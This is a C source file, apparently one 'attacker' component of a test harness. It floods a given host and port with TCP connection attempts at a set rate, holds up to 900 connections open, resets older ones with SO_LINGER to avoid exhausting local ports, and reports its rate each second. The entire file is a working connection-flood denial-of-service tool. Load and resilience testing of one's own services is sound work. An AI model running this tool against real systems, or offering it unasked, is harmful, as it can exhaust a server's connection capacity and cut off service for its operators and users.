/*
 * One attacker: connects to a port so many times a second, says nothing, and holds the last of its connections for as long
 * as it has descriptors.
 *
 *     flood HOST PORT RATE
 *
 * Prints how many connections a second it has begun, once a second, until it is killed.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#ifndef HELD
#define HELD 900
#endif

static uint64_t now_ns(void) {
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (uint64_t)now.tv_sec * 1000000000u + (uint64_t)now.tv_nsec;
}

int main(int count, char **words) {
    static int held[HELD];
    struct sockaddr_in there = {.sin_family = AF_INET};
    const struct linger reset = {.l_onoff = 1};
    uint64_t rate, begin = now_ns(), told = begin, done = 0, before = 0;
    if (count != 4 || inet_pton(AF_INET, words[1], &there.sin_addr) != 1)
        return 2;
    there.sin_port = htons((uint16_t)atoi(words[2]));
    rate = strtoull(words[3], NULL, 10);
    for (;;) {
        uint64_t now = now_ns();
        if (now - told > 1000000000) {
            printf("%llu\n", (unsigned long long)(done - before));
            fflush(stdout);
            told = now;
            before = done;
        }
        if (done > (now - begin) * rate / 1000000000) {
            usleep(200);
            continue;
        }
        int *place = &held[done++ % HELD];
        if (*place > 0)
            close(*place);
        *place = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
        /* Closed at once, so that ports do not run out. */
        setsockopt(*place, SOL_SOCKET, SO_LINGER, &reset, sizeof reset);
        connect(*place, (struct sockaddr *)&there, sizeof there);
    }
}
